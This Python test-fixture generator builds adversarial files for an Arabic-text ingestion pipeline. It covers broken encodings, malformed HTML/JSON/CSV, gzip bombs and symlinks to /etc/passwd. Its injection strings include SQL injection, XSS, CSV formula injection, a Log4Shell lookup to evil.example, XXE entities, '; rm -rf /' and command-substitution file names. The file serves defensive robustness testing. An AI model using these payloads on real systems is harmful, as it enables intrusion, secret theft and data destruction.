"""Files that nobody should land, and somebody will: made from a seed, each with what may become of it.

``make(folder)`` writes them and yields ``(address, outcomes)``: the file's address as landing prints it, and the set of what may come of it, ``article``
and reasons of rejects. A file whose outcome is not in its set is a fault of the reader.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import random
import stat
from collections.abc import Iterator
from pathlib import Path, PurePosixPath

from ct_pipeline.ingest.identity import printable_path

WORDS = (
    "قال الوزير إن التعاون في مكافحة الإرهاب مع المغرب وإسبانيا مستمر عقد اجتماع في الرباط يوم الخميس بمشاركة وفود من دول المنطقة وأكد المتحدث باسم الحكومة أن الاتفاقية الجديدة "
    "ستدخل حيز التنفيذ العام المقبل بعد توقيعها من الطرفين وأضاف أن تبادل المعلومات بين الأجهزة الأمنية أحبط عددا من المخططات"
).split()
ARTICLE = frozenset({"article"})
ANY = frozenset({"article", "empty", "undecodable", "not_text", "no_text", "unsupported", "truncated", "bad_json", "bad_csv", "bad_html", "too_large", "duplicate_id", "unreadable"})
ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "windows-1256", "iso-8859-6", "cp864", "cp720", "mac-arabic", "utf-7")
MARKS = "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff\u200b\u200d\u00ad\u0640\u064b\u0651"
INJECTIONS = (
    "'); drop table facts.events; --",
    "\" or 1=1; attach '/etc/passwd' as x; --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "../../etc/passwd",
    "[link=file:///etc/passwd]x[/link]",
    "\x1b[2J\x1b]0;owned\x07",
    '&lt;!ENTITY x SYSTEM "file:///etc/passwd"&gt;',
    "$(touch owned)",
    "`touch owned`",
    "; rm -rf /",
)


def prose(rng: random.Random, words: int = 80) -> str:
    text = " ".join(rng.choices(WORDS, k=words))
    return f"{rng.randrange(10**9)} {text}."


def page(rng: random.Random, inside: str = "", head: str = "") -> str:
    return f"<!doctype html><html><head><title>{prose(rng, 5)}</title>{head}</head><body><article><h1>{prose(rng, 6)}</h1><p>{prose(rng)}</p>{inside}</article></body></html>"


def _encodings(rng: random.Random) -> Iterator[tuple[str, bytes, frozenset[str]]]:
    for n, name in enumerate(ENCODINGS):
        yield f"enc-{n}-{name}.txt", prose(rng, 60).encode(name, "ignore"), ANY if name in ("cp864", "cp720", "mac-arabic", "utf-7") else ARTICLE
        yield f"enc-{n}-{name}.html", page(rng, head='<meta charset="shift_jis">').encode(name, "ignore"), ANY
    for n in range(12):  # two encodings in one file, cut in the middle of a character
        a, b = rng.sample(ENCODINGS[:8], 2)
        yield f"mixed-{n}.txt", prose(rng).encode(a, "ignore")[: -1 - n % 3] + b"\n" + prose(rng).encode(b, "ignore"), ANY
    for n in range(8):
        yield f"twice-{n}.txt", prose(rng).encode().decode("windows-1256", "replace").encode(), ARTICLE
        yield f"surrogates-{n}.txt", (prose(rng) + "\ud800 \udfff\ud83d").encode("utf-8", "surrogatepass"), ARTICLE
        yield f"nul-{n}.txt", prose(rng).replace(" ", " \x00", 5).encode(), ARTICLE
        yield f"noise-{n}.txt", rng.randbytes(3000), ANY
        yield f"cut-{n}.txt", prose(rng).encode()[n : -n or None], ARTICLE
    for n, data in enumerate((b"", b" \n\t", b"\x00" * 5000, b"\xef\xbb\xbf", b"\xff\xfe", b"\xff", b"\xfe\xff\x00", b"\n" * 10000)):
        yield f"nothing-{n}.txt", data, ANY if data == b"\xff" else frozenset({"empty", "not_text", "no_text", "undecodable"})  # a single byte is a letter in windows-1256


def _texts(rng: random.Random) -> Iterator[tuple[str, bytes, frozenset[str]]]:
    bodies = {
        "digits": "0123456789 " * 3000,
        "arabic-digits": "٠١٢٣٤٥٦٧٨٩" * 3000,
        "diacritics": "\u064e\u0651\u064b" * 10000,
        "tatweel": "ـ" * 20000,
        "marks": MARKS * 1000,
        "one-word": "إرهاب " * 20000,
        "one-letter": "ا" * 60000,
        "stops": "." * 50000,
        "quotes": "«»\"'" * 10000,
        "brackets": "([{" * 20000,
        "newlines": "ا\n" * 20000,
        "crlf": "ا\r\r\n" * 10000,
        "emoji": "👩‍👩‍👧 " * 5000,
        "zalgo": "ا" + "\u0301" * 20000,
        "english": "The minister said that cooperation continues. " * 100,
        "russian": "Министр сказал, что сотрудничество продолжается. " * 100,
        "hebrew": "השר אמר כי שיתוף הפעולה נמשך. " * 100,
        "chinese": "部长表示合作仍在继续。" * 300,
        "persian": "وزیر گفت که همکاری ادامه دارد. " * 100,
        "urdu": "وزیر نے کہا کہ تعاون جاری ہے۔ " * 100,
        "hindi": "मंत्री ने कहा कि सहयोग जारी है। " * 100,
        "private-use": "\ue000\uf8ff" * 5000,
        "noncharacters": "\ufffe\uffff\U0010ffff ا " * 2000,
        "presentation-forms": "ﻗﺎﻝ ﺍﻟﻮﺯﻳﺮ ﺇﻥ ﺍﻟﺘﻌﺎﻭﻥ " * 200,
        "override": "\u202e" + prose(rng) + "\u202c" + "gpj.exe",
        "base64": "QUJD" * 20000,
        "one-long-word": "ال" + "متسلسل" * 5000,
        "tabs": "قال\t" * 10000,
        "dates": "31/02/2024 99/99/9999 0/0/0 ٣٠ فبراير ١٤٤٥ " * 500,
        "numbers": "مليار مليار مليار " * 3000,
    }
    for name, text in bodies.items():
        yield f"text-{name}.txt", text.encode("utf-8", "surrogatepass"), ANY
        yield f"text-{name}.html", f"<p>{text}</p>".encode("utf-8", "surrogatepass"), ANY
    for n, words in enumerate(INJECTIONS):
        yield f"inject-{n}.txt", f"{words}\n\n{prose(rng)}".encode(), ARTICLE
        yield f"inject-{n}.html", page(rng, f"<p>{words}</p>", f'<meta name="author" content="{words.replace(chr(34), "&quot;")}">').encode(), ARTICLE
        yield f"inject-{n}.jsonl", (json.dumps({"id": words, "title": words, "author": words, "text": prose(rng)}, ensure_ascii=False) + "\n").encode(), ARTICLE


def _pages(rng: random.Random) -> Iterator[tuple[str, bytes, frozenset[str]]]:
    text = prose(rng)
    sources = {
        "deep-div": "<div>" * 100_000 + text,
        "deep-closed": "<b>" * 5000 + text + "</b>" * 5000,
        "deep-table": "<table><tr><td>" * 3000 + text,
        "deep-list": "<ul><li>" * 20_000 + text,
        "unclosed": "<p" * 20_000 + text,
        "attributes": "<p " + " ".join(f"a{n}=1" for n in range(20_000)) + f">{text}</p>",
        "one-attribute": f'<p x="{"y" * 500_000}">{text}</p>',
        "comments": "<!--" * 20_000 + text,
        "entities": f"<p>{'&amp;' * 20_000}&#0;&#xD800;&#x110000;&bogus; {text}</p>",
        "scripts": f"<script>{'document.write(1);' * 5000}</script><p>{text}</p><script>",
        "styles": f"<style>{'a{}' * 20_000}</style><p>{text}</p>",
        "laughs": '<!DOCTYPE html [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>' + f"<html><body><p>&c;{text}</p></body></html>",
        "external": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + f"<html><body><p>&x; {text}</p></body></html>",
        "include": f'<html xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/><p>{text}</p></html>',
        "frames": f'<iframe src="file:///etc/passwd"></iframe><object data="http://evil.example/"></object><p>{text}</p>',
        "hidden": f'<div style="display:none">{text}</div>',
        "only-script": "<html><body><script>1</script></body></html>",
        "xml": f'<?xml version="1.0"?><html><body><p>{text}</p></body></html>',
        "cdata": f"<![CDATA[{text}]]><p>{text}</p>",
        "null": f"<p>\x00{text}\x00</p>",
        "json-ld": f'<script type="application/ld+json">{"[" * 20_000}</script><p>{text}</p>',
        "json-ld-date": f'<script type="application/ld+json">{{"@type":"NewsArticle","datePublished":"9999-99-99T99:99"}}</script><p>{text}</p>',
        "base": f'<base href="http://evil.example/"><p>{text}</p>',
        "bogus": f"<p>{text}</p>" + "</div>" * 20_000,
        "select": "<select>" + "<option>x" * 20_000 + f"</select><p>{text}</p>",
        "svg": f"<svg><script>alert(1)</script><text>{text}</text></svg><p>{text}</p>",
        "nested-forms": "<form>" * 3000 + text,
        "huge-title": f"<title>{text * 300}</title><p>{text}</p>",
    }
    for name, source in sources.items():
        yield f"page-{name}.html", source.encode("utf-8", "surrogatepass"), ANY
    for n in range(20):  # a page with characters struck out or doubled
        source = list(page(rng, "<ul><li>a<li>b</ul><a href='x'>y</a>" * 5))
        for _ in range(40):
            at = rng.randrange(len(source))
            source[at] = rng.choice(("", source[at] * 3, "<", ">", '"', "&", "\u202e"))
        yield f"page-broken-{n}.html", "".join(source).encode(), ANY


def _records(rng: random.Random) -> Iterator[tuple[str, bytes, frozenset[str]]]:
    def good() -> str:
        return json.dumps({"id": rng.randrange(10**9), "title": prose(rng, 5), "text": prose(rng)}, ensure_ascii=False)

    bad = {
        "line": "{bad",
        "array": "[1,2",
        "number": "17",
        "null": "null",
        "string": '"x"',
        "deep": "[" * 50_000,
        "deep-object": '{"a":' * 20_000,
        "nan": '{"text": NaN}',
        "infinity": '{"id": 1e999, "text": "نص"}',
        "empty-object": "{}",
        "no-text": '{"id": 5, "x": 1}',
        "wrong-type": '{"id": {"a": 1}, "text": {"b": [1]}}',
        "long-id": json.dumps({"id": "x" * 100_000, "text": prose(rng)}),
        "control": '{"id": "a\\u0000b\\u202e", "text": "\\ud800 نص من كلمات"}',
        "deep-body": json.dumps({"id": 7, "text": "<div>" * 100_000 + "<p>نص</p>"}),
        "digits-body": json.dumps({"text": "1 2 3"}),
        "bool": '{"text": true}',
        "latin": '{"id": 9, "text": "only words of another language here"}',
        "url": '{"id": 3, "url": "javascript:alert(1)", "text": "نص من كلمات عدة هنا"}',
        "date": '{"id": 4, "date": "31 فبراير 99999", "text": "نص من كلمات عدة هنا"}',
        "duplicate-keys": '{"text": "نص أول هنا", "text": "نص ثان هنا"}',
        "big-integer": '{"id": 1, "date": ' + "9" * 4000 + ', "text": "نص من كلمات عدة هنا"}',
        "bytes": "\ufffd\ufffd{",
    }
    for name, line in bad.items():  # a bad line between two good ones: the good ones land
        yield f"records-{name}.jsonl", f"{good()}\n{line}\n{good()}\n".encode("utf-8", "surrogatepass"), ANY
        yield f"array-{name}.json", f"[{good()},\n{line}\n]".encode("utf-8", "surrogatepass"), ANY
    same = '{"id": 1, "text": "نص أول من كلمات"}\n{"id": 1, "text": "نص ثان من كلمات"}\n'
    yield "records-same-id.jsonl", same.encode(), frozenset({"article", "duplicate_id"})
    yield "records-utf16.jsonl", f"{good()}\n{good()}\n".encode("utf-16"), ARTICLE
    yield "records-no-newline.jsonl", good().encode(), ARTICLE
    header = "id,title,text\n"
    tables = {
        "unclosed": f'1,"{prose(rng)}\n2,x,{prose(rng)}\n3,y,{prose(rng)}\n',
        "too-few": f"1,x\n2,x,{prose(rng)}\n",
        "too-many": f"1,x,{prose(rng)},y,z\n",
        "quotes": f'1,"a""b"c,{prose(rng)}\n',
        "nul": f"1,x\x00,{prose(rng)}\n",
        "empty-rows": "\n\n,,\n",
        "formula": f"1,=1+1,{prose(rng)}\n",
        "newlines": f'1,"a\nb\nc","{prose(rng)}\n{prose(rng)}"\n',
        "cr": f"1,x,{prose(rng)}\r2,x,{prose(rng)}\r",
        "same-id": f"1,x,{prose(rng)}\n1,x,{prose(rng)}\n",
        "header-only": "",
        "long-cell": f"1,x,{'نص ' * 50_000}\n",
        "delimiters": f"1;x;{prose(rng)}\n",
        "bom": f"1,x,{prose(rng)}\n",
    }
    for name, rows in tables.items():
        yield f"table-{name}.csv", (("\ufeff" if name == "bom" else "") + header + rows).encode(), ANY
        yield f"table-{name}.tsv", (header + rows).replace(",", "\t").encode(), ANY
    for n, names in enumerate(("a,b,c", "", "text,text,text", ",,,", '"', "\x00", "x" * 100_000)):
        yield f"header-{n}.csv", f"{names}\n1,2,3\n".encode(), ANY
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["id", "text"])
    for n in range(200):
        writer.writerow([n, prose(rng, 10)])
    data = out.getvalue().encode()
    for n in range(12):  # cut or spoilt somewhere
        at = rng.randrange(len(data))
        yield f"table-spoilt-{n}.csv", data[:at] + rng.choice((b'"', b"\n", b",,,", b"", b"\xff\xfe")) + data[at + n :], ANY


def _packed(rng: random.Random) -> Iterator[tuple[str, bytes, frozenset[str]]]:
    whole = gzip.compress(prose(rng, 2000).encode())
    yield "gz-good.txt.gz", whole, ARTICLE
    yield "gz-misnamed.txt", gzip.compress(prose(rng).encode()), ARTICLE
    yield "gz-not.txt.gz", prose(rng).encode(), ARTICLE
    yield "gz-twice.txt.gz", gzip.compress(whole), frozenset({"unsupported"})
    yield "gz-bomb.txt.gz", gzip.compress(b"\x00" * 50_000_000), frozenset({"too_large"})
    yield "gz-bomb.html.gz", gzip.compress(b"<p>" * 10_000_000), frozenset({"too_large"})
    yield "gz-many.txt.gz", gzip.compress(b"") * 500 + whole, ARTICLE
    yield "gz-garbage-after.txt.gz", whole + b"garbage", ANY
    for n in range(15):
        at = rng.randrange(2, len(whole))
        yield f"gz-cut-{n}.txt.gz", whole[:at], frozenset({"truncated", "empty", "article"})
        spoilt = bytearray(whole)
        spoilt[at] ^= 0xFF
        yield f"gz-spoilt-{n}.txt.gz", bytes(spoilt), ANY
    for n, magic in enumerate(
        (
            b"%PDF-1.7\n",
            b"PK\x03\x04",
            b"\xd0\xcf\x11\xe0",
            b"{\\rtf1",
            b"PAR1",
            b"BZh9",
            b"\xfd7zXZ\x00",
            b"\x28\xb5\x2f\xfd",
            b"7z\xbc\xaf\x27\x1c",
            b"Rar!\x1a",
            b"\x89PNG\r\n",
            b"GIF89a",
            b"\x7fELF",
            b"MZ\x90\x00",
            b"SQLite format 3\x00",
        )
    ):
        yield f"binary-{n}.txt", magic + rng.randbytes(500), frozenset({"unsupported", "not_text", "undecodable", "article"})
    for suffix in (".pdf", ".docx", ".xml", ".zip", ".parquet", ".xlsx", ".eml", ".duckdb"):
        yield f"kind{suffix}", prose(rng).encode(), frozenset({"unsupported"})


def _names(rng: random.Random) -> Iterator[tuple[bytes, bytes, frozenset[str]]]:
    names = [
        "اسم عربي.txt",
        "\u202eexe.txt",
        "a\u200fb.txt",
        "quote'.txt",
        'quote".txt',
        "semi;colon.txt",
        "new\nline.txt",
        "tab\t.txt",
        "$(touch owned).txt",
        "`x`.txt",
        "a b  c.txt",
        "%2e%2e%2f.txt",
        "*.txt",
        "?.txt",
        "[red].txt",
        "<b>.txt",
        "-rf.txt",
        "--help.txt",
        "=1+1.txt",
        "a" * 240 + ".txt",
        "UPPER.TXT",
        "two.dots.txt",
        "no-suffix",
        "ﷺ.txt",
        "é.txt",
        "e\u0301.txt",
        "\x01\x02.txt",
        "\x1b[31m.txt",
        "landed_on=2024-01-01.txt",
        "a.b.parquet.txt",
    ]
    for name in names:
        yield name.encode(), prose(rng).encode(), ARTICLE
    for raw in (b"\xff\xfe.txt", b"latin-\xe9.txt", b"\xc3\x28.txt"):
        yield raw, prose(rng).encode(), ARTICLE


def make(folder: Path, seed: int = 8, rounds: int = 1) -> Iterator[tuple[str, frozenset[str]]]:
    """Write the files under ``folder`` and say what may become of each."""
    for n in range(rounds):
        rng = random.Random(f"{seed} {n}")
        inner = folder / f"round-{n}" / "files"
        inner.mkdir(parents=True)
        made: list[tuple[str | bytes, bytes, frozenset[str]]] = [*_encodings(rng), *_texts(rng), *_pages(rng), *_records(rng), *_packed(rng), *_names(rng)]
        for name, data, outcomes in made:
            path = inner / os.fsdecode(name)
            path.write_bytes(data)
            yield printable_path(PurePosixPath(path.relative_to(folder))), outcomes
        yield from _special(folder, inner, rng)


def _special(folder: Path, inner: Path, rng: random.Random) -> Iterator[tuple[str, frozenset[str]]]:
    outside = folder.parent / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "secret.txt").write_text("سر لا يجوز أن يقرأ: " + prose(rng), encoding="utf-8")
    (inner / "real.txt").write_text(prose(rng), encoding="utf-8")
    yield f"{inner.relative_to(folder)}/real.txt", ARTICLE
    refused = frozenset({"unsupported", "unreadable"})
    for name, target in {
        "link-out.txt": outside / "secret.txt",
        "link-folder": outside,
        "link-up": Path(".."),
        "link-root.txt": Path("/etc/passwd"),
        "link-nowhere.txt": Path("missing"),
        "link-self.txt": Path("link-self.txt"),
        "link-proc.txt": Path("/proc/self/environ"),
        "link-dots.txt": Path("../../../outside/secret.txt"),
    }.items():
        (inner / name).symlink_to(target)
        yield f"{inner.relative_to(folder)}/{name}", refused
    (inner / "link-in.txt").symlink_to("real.txt")
    yield f"{inner.relative_to(folder)}/link-in.txt", ARTICLE
    os.mkfifo(inner / "pipe.txt")
    yield f"{inner.relative_to(folder)}/pipe.txt", refused
    if os.getuid() == 0:
        try:
            os.mknod(inner / "zero.txt", stat.S_IFCHR | 0o666, os.makedev(1, 5))
        except OSError:
            return
        yield f"{inner.relative_to(folder)}/zero.txt", refused
